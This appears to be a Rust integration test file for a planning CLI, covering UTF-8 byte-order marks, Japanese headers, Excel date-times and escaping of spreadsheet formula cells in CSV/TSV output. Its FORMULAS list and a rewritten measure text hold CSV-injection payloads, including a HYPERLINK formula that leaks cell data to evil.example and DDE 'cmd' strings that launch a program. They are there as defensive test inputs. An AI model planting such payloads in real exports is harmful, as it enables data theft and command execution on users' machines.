//! CSV and TSV for spreadsheets. `--bom` on `plan list`, `plan log` and
//! `plan status`: CSV and TSV that Excel opens as UTF-8 (Japanese intact),
//! the plain output after the byte-order mark but for Japanese headers
//! (`--lang ja`) and times Excel reads as date-times; refused with any
//! other format. Cells a spreadsheet would run as a formula get a `'`
//! (OWASP), unless `--raw`.

mod common;

use common::*;
use predicates::str::contains;

const BOM: &[u8] = b"\xEF\xBB\xBF";

fn bytes(scratch: &Scratch, args: &[&str]) -> Vec<u8> {
    scratch
        .plan()
        .args(args)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone()
}

/// Rows of CSV or TSV (a leading byte-order mark dropped).
fn rows(bytes: &[u8], format: &str) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix(BOM).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(if format == "tsv" { b'\t' } else { b',' })
        .quoting(format != "tsv")
        .from_reader(bytes)
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_string).collect())
        .collect()
}

/// `2021-05-01T10:00:00+09:00` as Excel reads it: `2021-05-01 10:00:00`,
/// and a time at midnight as its date alone.
fn excel_time(rfc3339: &str) -> String {
    let local = chrono::DateTime::parse_from_rfc3339(rfc3339)
        .unwrap_or_else(|e| panic!("{rfc3339}: {e}"))
        .naive_local();
    let text = local.format("%Y-%m-%d %H:%M:%S").to_string();
    text.strip_suffix(" 00:00:00")
        .map_or(text.clone(), str::to_string)
}

#[test]
fn bom_starts_the_csv_and_writes_times_for_excel() {
    let scratch = plan_with_report_notes();
    scratch.note(&["1.tmg.イ", "日付だけの記録", "--at", "2021-06-01"]);
    for command in [
        &["list"][..],
        &["log"],
        &["status"],
        &["status", "--by", "party"],
        &["status", "--by", "measure"],
        &["show", "2.イ"],
    ] {
        for format in ["csv", "tsv"] {
            let plain = bytes(&scratch, &[command, &["--format", format]].concat());
            let marked = bytes(
                &scratch,
                &[command, &["--format", format, "--bom"]].concat(),
            );
            assert!(marked.starts_with(BOM), "{command:?} {format}");
            assert!(
                !plain.starts_with(BOM),
                "{command:?} {format}: no BOM unasked"
            );
            let (plain, marked) = (rows(&plain, format), rows(&marked, format));
            assert_eq!(plain.len(), marked.len(), "{command:?} {format}");
            assert_eq!(plain[0], marked[0], "English headers under --lang en");
            let mut times = 0;
            for (p, m) in plain.iter().zip(&marked).skip(1) {
                for ((key, p), m) in plain[0].iter().zip(p).zip(m) {
                    if (key == "at" || key == "last_note_at") && !p.is_empty() {
                        assert_eq!(m, &excel_time(p), "{command:?} {format} {key}");
                        times += 1;
                    } else {
                        assert_eq!(p, m, "{command:?} {format} {key}");
                    }
                }
            }
            assert!(times > 0, "{command:?} {format}: a time was checked");
        }
    }
    let log = String::from_utf8(bytes(&scratch, &["log", "--format", "csv", "--bom"])).unwrap();
    assert!(log.starts_with("\u{feff}key,short_key,id,at,"), "{log}");
    assert!(log.contains("認定企業 21 社を公表"), "{log}");
    assert!(log.contains(",2021-05-01 10:00:00,"), "{log}");
    // A date-only note is a date in Excel, not text and not 00:00.
    assert!(log.contains(",2021-06-01,true,"), "{log}");
}

#[test]
fn bom_under_japanese_gives_japanese_headers() {
    let scratch = plan_with_report_notes();
    let ja = |args: &[&str]| {
        let mut all = vec!["--lang", "ja"];
        all.extend(args);
        String::from_utf8(bytes(&scratch, &all)).unwrap()
    };
    let log = ja(&["log", "--format", "csv", "--bom"]);
    assert!(
        log.starts_with("\u{feff}キー,短縮キー,番号,日時,日付のみ,記録者,状況,内容,根拠,"),
        "{log}"
    );
    let list = ja(&["list", "--format", "tsv", "--bom"]);
    assert!(
        list.starts_with("\u{feff}番号\t節\t主体\t記号\t内容\t小項目\t状況\t件数\t最終更新\n"),
        "{list}"
    );
    let status = ja(&["status", "--format", "csv", "--bom"]);
    assert!(
        status.starts_with("\u{feff}節,節名,主体,取組,実施済,"),
        "{status}"
    );
    // Scripts keep the stable English keys, whatever the language.
    let plain = ja(&["log", "--format", "csv"]);
    assert!(plain.starts_with("key,short_key,id,at,"), "{plain}");
}

/// Texts Excel, LibreOffice or Google Sheets would run as a formula.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"報告書\")",
    "+81 3 1234",
    "-10% の削減",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tタブで始まる",
    "\r改行で始まる",
];

#[test]
fn cells_that_would_run_as_formulas_get_a_quote_unless_raw() {
    let scratch = copy_plan();
    for (i, text) in FORMULAS.iter().enumerate() {
        let at = format!("2021-06-{:02}T10:00", i + 1);
        scratch.note(&["--at", &at, "--author", "=1+1", "1.tmg.イ", "--", text]);
    }
    // A measure's own text, as list and show print it.
    let section = scratch.plan_dir().join("01-work-style-reform.toml");
    let toml = std::fs::read_to_string(&section).unwrap();
    std::fs::write(
        &section,
        toml.replacen(
            "text = \"企業における働き方改革に向けた気運醸成\"",
            "text = \"=cmd|' /C calc'!A0\"",
            1,
        ),
    )
    .unwrap();
    for format in ["csv", "tsv"] {
        let log = rows(&bytes(&scratch, &["log", "--format", format]), format);
        let col = |name: &str| log[0].iter().position(|k| k == name).unwrap();
        let texts: Vec<&str> = log[1..].iter().map(|r| r[col("text")].as_str()).collect();
        for text in FORMULAS {
            // TSV writes a tab or CR inside a cell as \t or \r.
            let shown = if format == "tsv" {
                text.replace('\t', "\\t").replace('\r', "\\r")
            } else {
                text.to_string()
            };
            assert!(
                texts.contains(&format!("'{shown}").as_str()),
                "{format} {texts:?}"
            );
        }
        assert!(
            log[1..].iter().all(|r| r[col("author")] == "'=1+1"),
            "{log:?}"
        );
        let raw = rows(
            &bytes(&scratch, &["log", "--format", format, "--raw"]),
            format,
        );
        assert!(
            raw[1..].iter().all(|r| r[col("author")] == "=1+1"),
            "{raw:?}"
        );
        if format == "csv" {
            let texts: Vec<&str> = raw[1..].iter().map(|r| r[col("text")].as_str()).collect();
            for text in FORMULAS {
                assert!(texts.contains(&text), "{texts:?}");
            }
        }
        for command in [&["list"][..], &["show", "1.イ"]] {
            let out = rows(
                &bytes(&scratch, &[command, &["--format", format]].concat()),
                format,
            );
            let text = out[0].iter().position(|k| k == "text").unwrap();
            let row = out.iter().find(|r| r[0] == "1.tmg.イ").unwrap();
            assert_eq!(row[text], "'=cmd|' /C calc'!A0", "{command:?} {format}");
            let raw = rows(
                &bytes(
                    &scratch,
                    &[command, &["--format", format, "--raw"]].concat(),
                ),
                format,
            );
            let row = raw.iter().find(|r| r[0] == "1.tmg.イ").unwrap();
            assert_eq!(row[text], "=cmd|' /C calc'!A0", "{command:?} {format}");
        }
    }
    // --raw is for CSV and TSV only, like --bom.
    scratch
        .plan()
        .args(["log", "--raw"])
        .assert()
        .code(2)
        .stdout("")
        .stderr(contains(
            "--raw only applies to --format csv or --format tsv",
        ));
}

#[test]
fn bom_with_another_format_is_a_usage_error_that_prints_nothing() {
    let scratch = copy_plan();
    for command in ["list", "log", "status"] {
        for format in [None, Some("json"), Some("markdown"), Some("ids")] {
            let mut cmd = scratch.plan();
            cmd.args([command, "--bom"]);
            if let Some(f) = format {
                cmd.args(["--format", f]);
            }
            cmd.assert().code(2).stdout("").stderr(contains(
                "--bom only applies to --format csv or --format tsv",
            ));
        }
    }
    scratch
        .plan()
        .args(["--lang", "ja", "status", "--bom"])
        .assert()
        .code(2)
        .stderr(contains("--bom は --format csv"));
}
